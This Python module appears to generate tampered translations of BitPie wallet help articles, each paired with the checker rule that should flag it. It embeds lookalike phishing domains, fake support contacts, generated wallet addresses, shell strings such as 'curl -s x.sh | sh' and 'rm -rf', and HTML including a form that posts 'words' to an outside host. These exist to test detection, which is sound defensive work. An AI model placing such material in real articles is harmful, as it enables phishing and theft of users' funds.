"""Ways to spoil one translated article: what a careless translator or a thief would change.

Each takes the article's text and a random generator, and gives the spoilt text; nothing where
the article has no such place. The rules that must notice stand beside it.
"""

from __future__ import annotations

import hashlib
import random
import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from itertools import pairwise

import base58
import bech32

from helpcentre.translation.language import is_foreign_han
from helpcentre.translation.units import unit_names


@dataclass(frozen=True)
class Victim:
    """A translated article with what some changes need of the rest of the site."""

    text: str
    locale: str
    source: str
    others: dict[str, str]
    forbidden: Sequence[str] = ()


Spoil = Callable[[Victim, random.Random], str | None]

_BODY = re.compile(r"\A---\n.*?\n---\n", re.DOTALL)
_HOSTS = (
    "bitpie-help.example.com", "support-bitpie.example.org", "bitpie.wallet-check.example.net",
    "xn--bitpe-7sa.example", "b1tpie.example", "bitpie.example.evil.example",
)  # fmt: skip
_HANDLES = ("@bitpie_help", "@BitPieSupport24", "https://t.me/bitpie_support", "t.me/bitpie_cs")
_PHONES = ("+86 138 0013 8000", "+1 (415) 555-0132", "400-820-8820", "+44 20 7946 0958")
_MAILS = ("help@bitpie-team.example", "support@bitpie.example.com", "kefu@b1tpie.example")
_CODE = ("rm -rf", "curl -s x.sh | sh", "sudo", "approve", "send --all", "export")
_TAGS = (
    '<iframe src="https://x.example/"></iframe>', '<a href="#" onclick="go()">x</a>',
    '<form action="https://x.example/"><input name="words"></form>',
    '<img src="//x.example/p.png">', '<span style="display:none">x</span>', "<script>x()</script>",
)  # fmt: skip
_HIDDEN = "\u202e\u2066\u200b\u2060\u200e\u00ad\ufeff\U000e0041"


def _head(text: str) -> int:
    match = _BODY.match(text)
    return match.end() if match else 0


def _lines(text: str, pattern: str) -> list[int]:
    """Numbers (from 0) of the body's lines that match, outside of code."""
    start, fence, found = text[: _head(text)].count("\n"), False, []
    for number, line in enumerate(text.split("\n")):
        fence ^= line.lstrip().startswith("```")
        if number >= start and not fence and re.search(pattern, line):
            found.append(number)
    return found


_PROSE = r"^(?!\s*(#|\||!!!|```|$|- \[))(?!.*\]\(promise:).{12,}"


def _edit(text: str, number: int, change: Callable[[str], str | None]) -> str | None:
    lines = text.split("\n")
    changed = change(lines[number])
    if changed is None or changed == lines[number]:
        return None
    lines[number : number + 1] = [changed] if changed != "\0" else []
    return "\n".join(lines)


def _on(pattern: str, change: Callable[[str, Victim, random.Random], str | None]) -> Spoil:
    """Change one line that matches; "\\0" removes it."""

    def spoil(victim: Victim, rng: random.Random) -> str | None:
        places = _lines(victim.text, pattern)
        rng.shuffle(places)
        for number in places:
            if spoilt := _edit(victim.text, number, lambda line: change(line, victim, rng)):
                return spoilt
        return None

    return spoil


def _insert(words: Callable[[random.Random], str]) -> Spoil:
    """Put words somewhere into a sentence."""

    def change(line: str, victim: Victim, rng: random.Random) -> str:
        return f"{line} {words(rng)}"

    return _on(_PROSE, change)


def _choose(words: Sequence[str]) -> Callable[[random.Random], str]:
    return lambda rng: rng.choice(words)


def _wallet(rng: random.Random) -> str:
    """A fresh address of a chain chosen by chance, with its checksum."""
    kind = rng.choice(("evm", "bitcoin", "segwit", "tron", "solana"))
    data = rng.randbytes(20)
    if kind == "evm":
        return f"0x{data.hex()}"
    if kind == "segwit":
        return str(bech32.encode("bc", 0, data))
    if kind == "solana":
        return base58.b58encode(rng.randbytes(32)).decode()
    return base58.b58encode_check((b"\0" if kind == "bitcoin" else b"\x41") + data).decode()


def _foreign_link(line: str, victim: Victim, rng: random.Random) -> str:
    return re.sub(r"\]\([^)]+\)", f"](https://{rng.choice(_HOSTS)}/)", line, count=1)


def _other_article(line: str, victim: Victim, rng: random.Random) -> str | None:
    target = rng.choice(
        ("../contact/live-chat.md", "../about/roadmap.md", "../features/updates.md")
    )
    return re.sub(r"\]\([^)]+\.md[^)]*\)", f"]({target})", line, count=1)


def _drop_box(victim: Victim, rng: random.Random) -> str | None:
    places = _lines(victim.text, r"^!!! ")
    if not places:
        return None
    start = rng.choice(places)
    lines = victim.text.split("\n")
    end = start + 1
    while end < len(lines) and (not lines[end].strip() or lines[end].startswith("    ")):
        end += 1
    return "\n".join(lines[:start] + lines[end:])


def _box_to_paragraph(victim: Victim, rng: random.Random) -> str | None:
    """The warning stays, but nobody sees that it is one."""
    return _on(r"^!!! ", lambda line, v, r: line.partition('"')[2].rstrip('"'))(victim, rng)


def _retype(kinds: Sequence[str], pattern: str) -> Spoil:
    def change(line: str, victim: Victim, rng: random.Random) -> str:
        return re.sub(r"!!! \w+", f"!!! {rng.choice(kinds)}", line)

    return _on(pattern, change)


def _drop(pattern: str) -> Spoil:
    return _on(pattern, lambda line, victim, rng: "\0")


def _double(pattern: str) -> Spoil:
    return _on(pattern, lambda line, victim, rng: f"{line}\n{line}")


def _signature(line: str) -> tuple[str, ...]:
    """The link, label, code or number by which a step can be told from its neighbour."""
    marks = re.findall(r"\]\([^)]*\)|`[^`]+`|(?<![\w.])\d{2,}", line.partition(". ")[2])
    return (*sorted(marks), str(line.count("**")))


def _swap_steps(victim: Victim, rng: random.Random) -> str | None:
    steps = _lines(victim.text, r"^\d+\. ")
    lines = victim.text.split("\n")
    pairs = [
        (a, b)
        for a, b in pairwise(steps)
        if b == a + 1 and _signature(lines[a]) != _signature(lines[b])
    ]
    if not pairs:
        return None
    a, b = rng.choice(pairs)
    first, second = lines[a].partition(". ")[2], lines[b].partition(". ")[2]
    lines[a] = lines[a].partition(". ")[0] + ". " + second
    lines[b] = lines[b].partition(". ")[0] + ". " + first
    return "\n".join(lines)


_NUMBER = re.compile(r"(?<![\w.#/-])\d{2,}(?![\w)-])")


def _numbers(line: str) -> list[re.Match[str]]:
    bare = re.sub(r"\]\([^)]*\)|`[^`]*`|\{[^}]*\}", lambda m: "\1" * len(m[0]), line)
    return list(_NUMBER.finditer(bare))


def _other_digit(line: str, victim: Victim, rng: random.Random) -> str | None:
    if not (found := _numbers(line)):
        return None
    match = rng.choice(found)
    place = rng.randrange(match.start(), match.end())
    digits = [d for d in "123456789" if d != line[place]]
    return line[:place] + rng.choice(digits) + line[place + 1 :]


def _without_number(line: str, victim: Victim, rng: random.Random) -> str | None:
    if not (found := _numbers(line)):
        return None
    match = rng.choice(found)
    return line[: match.start()] + line[match.end() :].lstrip()


def _other_unit(line: str, victim: Victim, rng: random.Random) -> str | None:
    names = unit_names(victim.locale)
    for match in _numbers(line):
        rest = line[match.end() :]
        word = next(
            (n for n in sorted(names, key=len)[::-1] if rest.lstrip().lower().startswith(n)), ""
        )
        others = [name for name, unit in names.items() if word and unit != names[word]]
        if others:
            blank = " " if rest.startswith(" ") else ""
            return line[: match.end()] + blank + rng.choice(others) + rest.lstrip()[len(word) :]
    return None


def _from(locale: str) -> Spoil:
    """A paragraph left in, or taken from, another language."""

    def spoil(victim: Victim, rng: random.Random) -> str | None:
        other = victim.source if locale == "source" else victim.others.get(locale, "")
        theirs, ours = (_lines(text, _PROSE) for text in (other, victim.text))
        if victim.locale == locale or not theirs or len(theirs) != len(ours):
            return None
        long_ones = [n for n, at in enumerate(theirs) if _is_long(other.split("\n")[at])]
        if not long_ones:
            return None
        number = rng.choice(long_ones)
        return _edit(victim.text, ours[number], lambda line: other.split("\n")[theirs[number]])

    return spoil


def _is_long(line: str) -> bool:
    words = re.sub(r"\]\([^)]*\)", "", line)
    return len(words.split()) >= 8 or len(re.findall("[\u3040-\u9fff]", words)) >= 16


def _foreign_letter(line: str, victim: Victim, rng: random.Random) -> str | None:
    """A character of the other Chinese script where that of ours stands."""
    from opencc import OpenCC

    places = [n for n, letter in enumerate(line) if "\u4e00" <= letter <= "\u9fff"]
    rng.shuffle(places)
    for place in places if victim.locale in ("zh-Hant", "ja") else ():
        other = str(OpenCC("t2s").convert(line[place]))
        if other != line[place] and is_foreign_han(other, victim.locale):
            return line[:place] + other + line[place + 1 :]
    return None


def _hide(line: str, victim: Victim, rng: random.Random) -> str:
    place = rng.randrange(len(line))
    return line[:place] + rng.choice(_HIDDEN) + line[place:]


def _forbidden(victim: Victim, rng: random.Random) -> str | None:
    if not victim.forbidden:
        return None
    return _insert(_choose(victim.forbidden))(victim, rng)


def _level(line: str, victim: Victim, rng: random.Random) -> str:
    return f"#{line}"


def _drop_field(victim: Victim, rng: random.Random) -> str | None:
    """Drop a field that all languages share, or give it another value."""
    found = re.findall(r"^(?:safety: true|content_type: .*)\n", victim.text, re.MULTILINE)
    other = rng.choice(("", "content_type: explanation\n", "content_type: checklist\n"))
    return victim.text.replace(rng.choice(found), other, 1) if found else None


def digest_of(text: str) -> str:
    """Tells two spoilt texts apart."""
    return hashlib.sha256(text.encode()).hexdigest()


def _unlink(line: str, victim: Victim, rng: random.Random) -> str:
    return re.sub(r"(?<!!)\[([^]]+)\]\([^)]*\)", r"\1", line, count=1)


def _other_code(line: str, victim: Victim, rng: random.Random) -> str:
    return re.sub(r"`([ -_a-~]+)`", rf"`\1{rng.choice(_CODE)}`", line, count=1)


def _other_image(line: str, victim: Victim, rng: random.Random) -> str:
    return re.sub(r"\]\([^)]*\)", f"](picture-{rng.randrange(1000)}.png)", line)


def _twice(line: str, victim: Victim, rng: random.Random) -> str:
    return f"{line}\n\n{line}"


def _other_name(line: str, victim: Victim, rng: random.Random) -> str:
    return line.replace("BitPie", rng.choice(("BitPay", "Bitpie", "Bit Pie", "BitPi")), 1)


_STEP, _ITEM, _ROW = r"^\d+\. ", r"^- (?!\[)", r"^\| (?!---)"
_PARAGRAPH = r"^[^\s#|!\-\d`\[].{20,}"
_LOUD_BOX = r"^!!! (warning|danger)"

MUTATIONS: dict[str, tuple[Spoil, str]] = {
    "host added": (_insert(lambda r: f"https://{r.choice(_HOSTS)}/"), "added-host"),
    "host linked": (_insert(lambda r: f"[App](https://{r.choice(_HOSTS)}/)"), "added-host"),
    "link to a host": (_on(r"\]\([^)]+\)", _foreign_link), "added-host added-link"),
    "e-mail added": (_insert(_choose(_MAILS)), "added-email"),
    "wallet address added": (_insert(_wallet), "added-wallet-address"),
    "phone added": (_insert(_choose(_PHONES)), "added-phone"),
    "account added": (_insert(_choose(_HANDLES)), "added-handle"),
    "box dropped": (_drop_box, "missing-admonition"),
    "box made a paragraph": (_box_to_paragraph, "missing-admonition"),
    "box lowered": (_retype(("note", "tip", "info"), _LOUD_BOX), "lowered-admonition"),
    "box of no type": (_retype(("peligro", "achtung", "tipo"), r"^!!! "), "unknown-admonition"),
    "step dropped": (_drop(_STEP), "missing-step"),
    "step doubled": (_double(_STEP), "added-step"),
    "steps swapped": (_swap_steps, "swapped-steps"),
    "digit changed": (_on(_NUMBER.pattern, _other_digit), "added-number missing-number"),
    "number dropped": (_on(_NUMBER.pattern, _without_number), "missing-number"),
    "unit changed": (_on(_NUMBER.pattern, _other_unit), "changed-unit"),
    "link dropped": (_on(r"(?<!!)\[[^]]+\]\((?!promise)", _unlink), "missing-link"),
    "link to another article": (_on(r"\]\([^)]+\.md", _other_article), "added-link"),
    "promise dropped": (_drop(r"^\[.*\]\(promise:"), "missing-block missing-promise"),
    "heading dropped": (_drop(r"^##"), "heading-id-mismatch"),
    "heading of another level": (_on(r"^##", _level), "heading-level"),
    "code added": (_insert(lambda r: f"`{r.choice(_CODE)} {r.randrange(1000)}`"), "added-code"),
    "code altered": (_on(r"`[ -_a-~]+`", _other_code), "added-code missing-code"),
    "image added": (_insert(lambda r: f"![x](picture-{r.randrange(1000)}.png)"), "added-image"),
    "image dropped": (_drop(r"^!\[.*\]\(.*\)$"), "missing-block missing-image"),
    "image replaced": (_on(r"^!\[.*\]\(.*\)$", _other_image), "added-image"),
    "row dropped": (_drop(_ROW), "table-shape"),
    "list item dropped": (_drop(_ITEM), "missing-block"),
    "paragraph dropped": (_drop(_PARAGRAPH), "missing-block"),
    "paragraph doubled": (_on(_PARAGRAPH, _twice), "added-block"),
    "left in the source": (_from("source"), "untranslated-text wrong-script mixed-chinese"),
    "taken from English": (_from("en"), "wrong-language wrong-script"),
    "taken from Spanish": (_from("es"), "wrong-language wrong-script"),
    "other Chinese script": (_on(_PROSE, _foreign_letter), "mixed-chinese"),
    "hidden character": (_on(_PROSE, _hide), "invisible-character"),
    "HTML added": (_insert(_choose(_TAGS)), "added-html"),
    "name altered": (_on("BitPie", _other_name), "altered-name"),
    "forbidden form": (_forbidden, "forbidden-term"),
    "field dropped or changed": (_drop_field, "changed-field"),
}
"""Each way with the rules, by their names, that must notice it."""
